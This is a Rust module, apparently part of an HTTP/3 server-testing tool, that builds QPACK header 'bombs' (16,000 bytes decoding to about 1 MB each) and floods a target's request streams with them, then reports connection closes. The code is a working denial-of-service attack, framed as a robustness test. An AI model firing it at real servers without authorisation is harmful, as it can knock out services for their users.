//! HTTP/3 attacks: header blocks that decode to far more than they weigh.

use std::time::Duration;

use quark_proto::varint::VarInt;
use quark_proto::{Dir, TransportConfig};

use crate::peer::Peers;
use crate::{Report, Scale, Target};

/// A HEADERS frame whose field section is `lines` one-byte references to
/// the static table's entry 31 (accept-encoding: gzip, deflate, br): each
/// byte decodes to a 67-byte field (RFC 9114 §4.2.2 counts 32 per field on
/// top of name and value), so 16 000 bytes are worth about a megabyte.
fn bomb(lines: usize) -> Vec<u8> {
    //= https://www.rfc-editor.org/rfc/rfc9204#section-4.5.2
    //# Indexed Field Line { 1, T=1 (static), Index (6+) }
    let mut section = vec![0x00, 0x00]; // Required Insert Count 0, Delta Base 0
    section.resize(2 + lines, 0xc0 | 31);
    let mut frame = Vec::new();
    put(&mut frame, 0x01); // HEADERS
    put(&mut frame, section.len() as u64);
    frame.extend_from_slice(&section);
    frame
}

fn put(out: &mut Vec<u8>, v: u64) {
    VarInt::from_u64(v).expect("small").encode(out);
}

/// Every request stream the server allows, each opening with a QPACK bomb.
pub(super) fn qpack_bomb(target: &Target, scale: Scale) -> anyhow::Result<Report> {
    let connections = scale.pick(2, 10);
    let mut peers = Peers::new(target, TransportConfig::default())?;
    let hs = peers.connect_many(connections, Duration::from_secs(5))?;
    let headers = bomb(16_000);
    let mut streams = 0;
    for &h in &hs {
        let conn = peers.conn(h);
        // The control stream, with empty SETTINGS, as a client must open.
        let control = conn
            .open_stream(Dir::Uni)
            .ok_or_else(|| anyhow::anyhow!("no unidirectional stream"))?;
        conn.write(control, &[0x00, 0x04, 0x00])?;
        // As many as the server allows at first (it may grant more as it
        // refuses these: that is not an invitation to go on for ever).
        for _ in 0..256 {
            let Some(id) = peers.conn(h).open_stream(Dir::Bi) else {
                break;
            };
            // What credit allows now; the rest waits (the server must not
            // need the whole block to refuse it).
            let conn = peers.conn(h);
            conn.write(id, &headers)?;
            conn.finish(id)?;
            streams += 1;
            peers.pump(Duration::ZERO)?;
        }
    }
    peers.pump(scale.pick(Duration::from_secs(2), Duration::from_secs(10)))?;
    let mut report = Report::default();
    report.notes.push(format!(
        "{streams} requests of 16 000 bytes decoding to about 1 MB each"
    ));
    report.count_closes(peers.closes());
    report.sent = peers.sent;
    Ok(report)
}
